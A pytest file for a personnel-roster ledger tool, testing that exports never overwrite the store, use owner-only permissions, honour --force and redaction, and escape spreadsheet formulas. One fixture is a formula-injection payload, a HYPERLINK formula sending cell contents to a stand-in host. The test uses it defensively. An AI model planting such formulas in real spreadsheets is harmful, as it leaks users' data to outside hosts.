"""Nothing the ledger writes can land on the ledger: output paths are never the store or one of its files (through a
symbolic or a hard link either), an existing file is replaced only with --force, exports are owner-only, and
`ledger demo` never replaces a store. Every refusal leaves the store's bytes and its events as they were."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import docx
import openpyxl
import pytest

from tests.audit_bureau import opening, year_2022
from tests.conftest import Ledger
from tests.safety import fingerprint, refused

WRITERS = {
    "roster": lambda out: ("roster", "--as-of", "2022-12-31", "--format", "csv", "-o", out),
    "export": lambda out: ("export", "roster", "--as-of", "2022-12-31", "-o", out),
}


@pytest.fixture
def bureau(sqlite_ledger: Ledger, write_jsonl) -> Ledger:
    sqlite_ledger.ok("import", str(write_jsonl([*opening(), *year_2022()])))
    return sqlite_ledger


@pytest.mark.parametrize("writer", WRITERS)
@pytest.mark.parametrize("target", ["", "-wal", "-shm", "-journal", ".append-lock"])
def test_an_output_path_that_is_the_store_or_one_of_its_files_is_refused(bureau: Ledger, writer: str,
                                                                          target: str) -> None:
    out = bureau.store + target
    what = "the ledger's store" if not target else f"a file of the store (ledger.sqlite3{target})"
    err = refused(bureau, *WRITERS[writer](out))
    assert err == (f"Error: {out} is {what} {bureau.store}: refusing to write a document over it (nothing was "
                   "written); choose another file name\n")


@pytest.mark.parametrize("writer", WRITERS)
def test_the_rules_file_beside_the_store_is_refused_even_with_force(bureau: Ledger, writer: str) -> None:
    rules = Path(bureau.store).parent / "ledger.toml"
    rules.write_text("[RETIREMENT_OVERDUE]\nseverity = \"warning\"\n")
    err = refused(bureau, *WRITERS[writer](str(rules)), "--force")
    assert "is a file of the store (ledger.toml)" in err
    assert rules.read_text() == "[RETIREMENT_OVERDUE]\nseverity = \"warning\"\n"


@pytest.mark.parametrize("link", ["symbolic", "hard"])
@pytest.mark.parametrize("writer", WRITERS)
def test_a_link_to_the_store_is_the_store(bureau: Ledger, tmp_path: Path, writer: str, link: str) -> None:
    out = tmp_path / "elsewhere" / "roster.csv"
    out.parent.mkdir()
    (os.symlink if link == "symbolic" else os.link)(bureau.store, out)
    err = refused(bureau, *WRITERS[writer](str(out)), "--force")
    assert err.startswith(f"Error: {out} is the ledger's store {bureau.store}: refusing to write")


def test_a_link_to_a_store_file_not_yet_made_is_refused_too(bureau: Ledger, tmp_path: Path) -> None:
    out = tmp_path / "roster.csv"
    os.symlink(bureau.store + "-wal", out)  # dangling until the store next writes
    err = refused(bureau, *WRITERS["export"](str(out)), "--force")
    assert "is a file of the store (ledger.sqlite3-wal)" in err


@pytest.mark.parametrize("writer", WRITERS)
def test_an_existing_file_is_replaced_only_with_force_and_written_owner_only(bureau: Ledger, tmp_path: Path,
                                                                            writer: str) -> None:
    out = tmp_path / "花名册.csv"
    out.write_text("keep me")
    err = refused(bureau, *WRITERS[writer](str(out)))
    assert err == f"Error: {out} exists: add --force to replace it (nothing was written)\n"
    assert out.read_text() == "keep me"
    before = fingerprint(bureau.store)
    bureau.ok(*WRITERS[writer](str(out)), "--force")
    assert out.read_text(encoding="utf-8-sig").startswith("人员编号,姓名")
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert fingerprint(bureau.store) == before  # an export only reads
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no half-written file left


def test_every_exporter_writes_owner_only_files(bureau: Ledger, tmp_path: Path) -> None:
    for name, suffix in (("roster", "xlsx"), ("roster", "docx"), ("roster", "json"), ("compliance-snapshot", "csv"),
                         ("yearly-report", "docx")):
        out = tmp_path / f"{name}.{suffix}"
        bureau.ok("export", name, "--as-of", "2022-12-31", "--year", "2022", "-o", str(out))
        assert stat.S_IMODE(out.stat().st_mode) == 0o600, out


def test_a_failing_export_leaves_no_file(bureau: Ledger, tmp_path: Path) -> None:
    out = tmp_path / "report.docx"
    err = refused(bureau, "export", "yearly-report", "--year", "2021", "--as-of", "2022-06-30", "-o", str(out), exit_code=2)
    assert "is not in --year 2021" in err
    assert not out.exists() and not [p for p in tmp_path.iterdir() if p.name.startswith(".report")]


def test_an_export_to_a_path_under_a_file_says_so(bureau: Ledger, tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    err = refused(bureau, "export", "roster", "--as-of", "2022-12-31", "-o", str(blocker / "roster.csv"))
    assert err.startswith("Error: ") and "is a file, not a folder" in err and "Traceback" not in err


# --- the demo ---------------------------------------------------------------------------------------------------
def test_demo_refuses_a_folder_holding_a_store_and_leaves_it_as_it_was(bureau: Ledger) -> None:
    folder = Path(bureau.store).parent
    err = refused(bureau, "demo", str(folder))
    assert err == (f"Error: {folder} already holds a ledger store ({bureau.store}): the demo builds a new one and "
                   "never replaces a store; give it an empty or new folder (nothing was written)\n")
    assert sorted(p.name for p in folder.iterdir() if p.suffix in (".docx", ".md", ".json")) == []


def test_demo_replaces_its_documents_only_with_force(tmp_path: Path) -> None:
    folder = tmp_path / "demo"
    folder.mkdir()
    (folder / "narrative-2022.md").write_text("mine")
    r = Ledger(str(tmp_path / "unused.sqlite3"))("demo", str(folder))
    assert r.exit_code == 1 and "narrative-2022.md exists: add --force" in r.stderr
    assert sorted(p.name for p in folder.iterdir()) == ["narrative-2022.md"]  # no store was built
    r = Ledger(str(tmp_path / "unused.sqlite3"))("demo", str(folder), "--force")
    assert r.exit_code == 0, r.output
    assert (folder / "narrative-2022.md").read_text() != "mine"
    assert stat.S_IMODE((folder / "2022年选人用人工作报告.docx").stat().st_mode) == 0o600


# --- --redact ---------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["roster", "compliance-snapshot"])
def test_an_exporter_that_cannot_redact_refuses_redact(bureau: Ledger, tmp_path: Path, name: str) -> None:
    out = tmp_path / "out.json"
    err = refused(bureau, "export", name, "--as-of", "2022-12-31", "--redact", "-o", str(out), exit_code=2)
    assert f"the {name} exporter cannot redact: it would write names and birth dates in full" in err
    assert not out.exists()


def test_the_yearly_report_redacts(bureau: Ledger, tmp_path: Path) -> None:
    out = tmp_path / "公开版.docx"
    bureau.ok("export", "yearly-report", "--year", "2022", "--redact", "-o", str(out))
    text = "\n".join(p.text for p in docx.Document(str(out)).paragraphs)
    assert "公孙兰" not in text and "**" in text


# --- cells a spreadsheet would run ---------------------------------------------------------------------------------
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'


@pytest.fixture
def formula_names(sqlite_ledger: Ledger, write_jsonl) -> Ledger:
    from tests.audit_bureau import ev

    lines = [*opening(), ev("hired", "2021-06-01", person="T09", name=FORMULA, gender="男", birth_date="1990-01-01",
                            unit="TJ", section="办公室", establishment="行政编制",
                            rank="一级科员", mode="转任"),
             ev("hired", "2021-06-01", person="T10", name="@SUM(1+1)", gender="女", birth_date="1991-01-01",
                unit="TJ", establishment="行政编制", rank="一级科员", mode="转任")]
    sqlite_ledger.ok("import", str(write_jsonl(lines)))
    return sqlite_ledger


def test_csv_cells_starting_like_formulas_are_written_as_text_and_read_back_as_they_were(formula_names: Ledger,
                                                                                        tmp_path: Path) -> None:
    out = tmp_path / "roster.csv"
    formula_names.ok("roster", "--as-of", "2022-01-01", "--format", "csv", "-o", str(out))
    text = out.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text
    assert "\n=" not in text and ",=" not in text and ",@" not in text
    from ledger.io.spreadsheets import read_tables

    names = [cells[1] for _, cells in read_tables(out)[0].rows[1:]]
    assert FORMULA in names and "@SUM(1+1)" in names


def test_xlsx_cells_starting_like_formulas_are_text_cells(formula_names: Ledger, tmp_path: Path) -> None:
    out = tmp_path / "roster.xlsx"
    formula_names.ok("export", "roster", "--as-of", "2022-01-01", "-o", str(out))
    sheet = openpyxl.load_workbook(out).active
    cells = {c.value: c for row in sheet.iter_rows(min_row=2, min_col=2, max_col=2) for c in row}
    assert cells[FORMULA].data_type == "s" and cells[FORMULA].quotePrefix
    assert cells["@SUM(1+1)"].data_type == "s"
